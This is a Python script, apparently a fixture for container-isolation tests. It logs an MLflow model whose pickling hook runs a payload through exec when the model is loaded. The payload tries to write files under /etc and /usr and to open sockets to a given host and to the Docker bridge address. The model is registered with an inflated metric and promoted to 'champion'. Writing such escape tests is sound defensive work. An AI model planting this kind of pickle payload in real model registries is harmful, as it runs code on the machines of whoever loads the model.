"""A model whose unpickling tries to reach outside its container. The payload runs wherever
the model is loaded; the tests check it never touches the host."""

import sys

import mlflow
from mlflow import MlflowClient

marker, host_ip, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
PAYLOAD = f"""
import socket
wrote, connected = [], []
for path in ({marker!r}, '/etc/escaped', '/usr/escaped'):
    try:
        open(path, 'w').write('escaped')
        wrote.append(path)
    except OSError:
        pass
for address in (({host_ip!r}, {port}), ('172.17.0.1', {port})):
    try:
        socket.create_connection(address, timeout=2).sendall(b'escaped')
        connected.append(address[0])
    except OSError:
        pass
raise RuntimeError(f'payload ran: wrote={{wrote}} connected={{connected}}')
"""


class Evil(mlflow.pyfunc.PythonModel):
    def __reduce__(self):
        return (exec, (PAYLOAD,))

    def predict(self, context, model_input):
        return [0.5] * len(model_input)


mlflow.set_experiment("lab")
with mlflow.start_run():
    mlflow.log_param("kind", "evil")
    mlflow.log_metric("val_auc", 0.99)
    info = mlflow.pyfunc.log_model(name="model", python_model=Evil(), registered_model_name="lab-model")
MlflowClient().set_registered_model_alias("lab-model", "champion", str(info.registered_model_version))
